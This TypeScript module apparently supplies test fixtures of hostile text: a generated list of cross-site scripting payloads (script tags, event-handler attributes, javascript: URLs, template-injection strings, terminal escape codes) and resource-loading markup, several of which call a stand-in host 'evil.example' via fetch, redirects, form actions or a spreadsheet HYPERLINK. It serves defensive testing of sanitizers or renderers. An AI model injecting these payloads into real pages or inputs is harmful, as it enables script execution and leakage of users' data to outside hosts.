/** Texts that would do something if any place took them for more than text: markup, Markdown, addresses, terminal codes. */

const EVIL = 'https://evil.example'
const HIT = 'hit()'

const MARKUP: readonly ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `<svg onload="${act}">`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `"><img src=x onerror=${act}>`,
  (act) => `'><svg/onload=${act}>`,
  (act) => `</td></div></script><script>${act}</script>`,
  (act) => `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  (act) => `<iframe src="javascript:${act}"></iframe>`,
  (act) => `<details open ontoggle="${act}">`,
  (act) => `<input autofocus onfocus="${act}">`,
  (act) => `<a href="javascript:${act}">look</a>`,
  (act) => `<math><mtext><img src=x onerror=${act}></mtext></math>`,
  (act) => `<template><img src=x onerror=${act}></template>`,
  (act) => `<object data="javascript:${act}"></object>`,
  (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  (act) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${act}">`,
  (act) => `[look](javascript:${act})`,
  (act) => `<javascript:${act}>`,
  (act) => `{{constructor.constructor('${act}')()}}`,
  (act) => '${' + act + '}',
  (act) => `data:text/html,<script>${act}</script>`,
  (act) => `\u001b]8;;javascript:${act}\u0007look\u001b]8;;\u0007`,
  (act) => `\u001b[31m\u001b[2J<img src=x onerror=${act}>`,
]
const ACTS = [
  HIT,
  'top.hit()',
  'window[`hit`]()',
  'alert(1)',
  `fetch('${EVIL}/f')`,
  `location='${EVIL}/l'`,
  `open('${EVIL}/o')`,
  "eval('hit()')",
]
const LOADING = [
  `![](${EVIL}/a.png)`,
  `<img src="${EVIL}/b.png">`,
  `<link rel=stylesheet href="${EVIL}/c.css">`,
  `<style>@import "${EVIL}/d.css"</style>`,
  `<div style="background:url(${EVIL}/e.png)">`,
  `<video poster="${EVIL}/f.png"></video>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}/g">`,
  `<base href="${EVIL}/">`,
  `<form action="${EVIL}/h"><button autofocus>look</button></form>`,
  `<svg><image href="${EVIL}/i.svg"/></svg>`,
  `<embed src="${EVIL}/j">`,
  `=HYPERLINK("${EVIL}/k")`,
]

export const HOSTILE_TEXTS: readonly string[] = [
  ...LOADING,
  ...MARKUP.flatMap((wrap) => ACTS.map((act) => wrap(act))),
]
